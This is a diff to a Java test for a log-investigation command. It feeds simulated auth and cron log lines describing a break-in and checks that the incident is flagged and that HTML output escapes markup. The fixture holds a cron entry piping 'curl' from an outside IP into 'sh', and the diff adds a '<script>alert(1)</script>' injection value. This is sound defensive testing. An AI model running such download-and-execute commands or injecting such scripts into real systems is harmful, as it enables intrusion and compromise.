@@ -52,7 +52,7 @@ final class InvestigateCommandTest {
         line(13, 2, "sshd[4100]: Accepted password for deploy from 203.0.113.9 port 41000 ssh2");
         line(14, 10, "sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/crontab -");
         line(14, 11, "crontab[4200]: (root) REPLACE (root)");
-        line(15, 1, "CRON[4300]: (root) CMD (curl -fsSL http://203.0.113.9/x | sh)");
+        line(15, 1, "CRON[4300]: (root) CMD (curl -fsSL http://203.0.113.9/x | sh # <script>alert(1)</script>)");
         Run run = investigate("--output", "json", "--fail-on", "high");
         assertThat(run.code()).as(run.err()).isEqualTo(ExitCode.FAILED);
         JsonNode told = new JsonMapper().readTree(run.out());
@@ -65,7 +65,7 @@ final class InvestigateCommandTest {
         assertThat(incident.path("entities").toString()).contains("web-1", "203.0.113.9", "deploy");
         assertThat(investigate().out()).contains("Login succeeded after passwords were guessed", "auth.log:28");
         assertThat(investigate("--output", "html").out())
-                .contains("auth.log:28")
+                .contains("auth.log:28", "&lt;script&gt;alert")
                 .doesNotContain("<script");
     }
 
